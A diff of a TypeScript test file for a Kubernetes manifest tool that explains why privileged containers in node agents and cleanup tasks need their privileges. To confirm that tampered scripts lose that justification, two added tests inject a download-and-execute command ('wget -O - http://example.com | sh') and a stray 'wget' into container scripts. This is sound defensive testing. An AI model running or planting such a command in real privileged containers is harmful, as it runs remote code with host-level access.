@@ -2,6 +2,7 @@ import { Size } from 'cdk8s';
 import { Backing, NodeAgent, NodeCleanup, SharedMemory } from '../../src';
 import type { JsonObject } from '../../src/kube/json';
 import { manifestsOf } from '../../src/kube/manifest';
+import { UNMOUNT } from '../../src/model/node/cleanup-scripts';
 import { hostPrivileges } from '../../src/read/host-privileges';
 import { ManifestSet } from '../../src/read/manifest-set';
 import { MarkedManifests } from '../../src/sharing/marked-manifests';
@@ -10,13 +11,13 @@ import { AGENT, chart, contract, rendered, TOOLS, type Rendered } from '../yaml'
 
 /** Why the containers of a workload are privileged, by container. */
 function whyPrivileged(object: Rendered) {
-  const { pods } = new MarkedManifests(new ManifestSet(manifestsOf(object as JsonObject)));
-  return pods.flatMap(({ pod, marks, task }) =>
-    hostPrivileges(pod)
+  const marked = new MarkedManifests(new ManifestSet(manifestsOf(object as JsonObject)));
+  return marked.pods.flatMap(markedPod =>
+    hostPrivileges(markedPod.pod)
       .filter(({ kind }) => kind === 'privileged')
       .map(privilege => [
         privilege.container,
-        privilegeReasons(pod, privilege, marks, task).map(({ because }) => because),
+        privilegeReasons(marked, markedPod, privilege).map(({ because }) => because),
       ]),
   );
 }
@@ -49,6 +50,12 @@ test('the step that mounts a tmpfs is known by the propagation of its mount, not
   expect(whyPrivileged(renamed)).toEqual([['anything', ['mountStep']]]);
 });
 
+test('a step whose script somebody changed has no reason', () => {
+  const object = agent();
+  mountStep(object).command[2] += 'wget -O - http://example.com | sh\n';
+  expect(whyPrivileged(object)).toEqual([['mount-routes', []]]);
+});
+
 test('a privileged step that mounts nothing for others has no reason', () => {
   const object = agent();
   delete mountStep(object).volumeMounts[0].mountPropagation;
@@ -56,7 +63,11 @@ test('a privileged step that mounts nothing for others has no reason', () => {
 });
 
 test('the same privileges in an ordinary container of a node task have no reason', () => {
-  const task = (where: 'initContainers' | 'containers', label = 'yes') => ({
+  const task = (
+    where: 'initContainers' | 'containers',
+    label = 'yes',
+    script: string = UNMOUNT,
+  ) => ({
     apiVersion: 'v1',
     kind: 'Pod',
     metadata: {
@@ -69,13 +80,24 @@ test('the same privileges in an ordinary container of a node task have no reason
     spec: {
       nodeSelector: { 'example.com/cleanup': label },
       containers: [{ name: 'pause', image: 'i' }],
-      [where]: [{ name: 'unmount', image: 'i', securityContext: { privileged: true } }],
+      [where]: [
+        {
+          name: 'unmount',
+          image: 'i',
+          command: ['sh', '-euc', script],
+          securityContext: { privileged: true },
+        },
+      ],
     },
   });
   expect(whyPrivileged(task('initContainers'))).toEqual([['unmount', ['unmount']]]);
   expect(whyPrivileged(task('containers'))).toEqual([['unmount', []]]);
   // whose pods run on other nodes is no task, whatever its annotation says
   expect(whyPrivileged(task('initContainers', 'no'))).toEqual([['unmount', []]]);
+  // nor has another script a reason
+  expect(whyPrivileged(task('initContainers', 'yes', `wget; ${UNMOUNT}`))).toEqual([
+    ['unmount', []],
+  ]);
 });
 
 test('the check of a cleanup has reasons for its capabilities, and for the profile that it does not have', () => {
@@ -91,13 +113,13 @@ test('the check of a cleanup has reasons for its capabilities, and for the profi
 
 /** Why a container has each of its privileges, by kind. */
 function whyAll(object: Rendered, name: string) {
-  const { pods } = new MarkedManifests(new ManifestSet(manifestsOf(object as JsonObject)));
-  return pods.flatMap(({ pod, marks, task }) =>
-    hostPrivileges(pod)
+  const marked = new MarkedManifests(new ManifestSet(manifestsOf(object as JsonObject)));
+  return marked.pods.flatMap(markedPod =>
+    hostPrivileges(markedPod.pod)
       .filter(({ container }) => container === name)
       .map(privilege => [
         privilege.kind,
-        privilegeReasons(pod, privilege, marks, task).map(({ because }) => because),
+        privilegeReasons(marked, markedPod, privilege).map(({ because }) => because),
       ]),
   );
 }
